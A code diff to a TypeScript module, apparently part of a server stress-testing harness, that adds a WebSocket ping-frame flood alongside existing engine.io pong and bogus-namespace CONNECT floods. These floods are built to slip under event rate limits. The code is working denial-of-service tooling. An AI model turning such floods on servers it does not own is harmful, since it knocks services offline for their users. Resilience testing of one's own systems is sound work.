@@ -1,15 +1,18 @@
 /**
- * Floods below the event layer, where the event rate limits never look: engine.io pongs, and
- * socket.io CONNECTs to namespaces that do not exist, thousands to a TCP write.
+ * Floods below the event layer, where the event rate limits never look: engine.io pongs,
+ * socket.io CONNECTs to namespaces that do not exist, and WebSocket ping frames (which `ws`
+ * answers by itself, below engine.io), thousands to a TCP write.
  */
 import { type Attack, type AttackTally, count, repeatFor, sleep } from './attack.js';
 import { connectFrame, connectOutcome, openEngine } from './engine-socket.js';
 import { clientFrame } from './raw-tcp.js';
 
-function packetFlood(kind: string, frame: (i: number) => string): Attack {
+/** A flood of `frame`s, as WebSocket frames of `opcode` (1: text). */
+function packetFlood(kind: string, frame: (i: number) => string, opcode = 1): Attack {
   return async (target, durationMs) => {
     const tally: AttackTally = {};
-    const batch = Buffer.concat(Array.from({ length: 2048 }, (_, i) => clientFrame(frame(i))));
+    const frames = Array.from({ length: 2048 }, (_, i) => clientFrame(frame(i), opcode));
+    const batch = Buffer.concat(frames);
     const endAt = performance.now() + durationMs;
     await repeatFor(durationMs, 2, async () => {
       const raw = await openEngine(target);
@@ -38,3 +41,6 @@ export const pongFlood = packetFlood('pong', () => '3');
 
 /** CONNECTs to namespaces the server does not have, each answered with an error. */
 export const namespaceFlood = packetFlood('connect', (i) => connectFrame(`/nowhere${i % 50}`));
+
+/** WebSocket ping frames (opcode 9), each answered with a pong frame by `ws` itself. */
+export const webSocketPingFlood = packetFlood('ws-ping', () => '', 0x9);
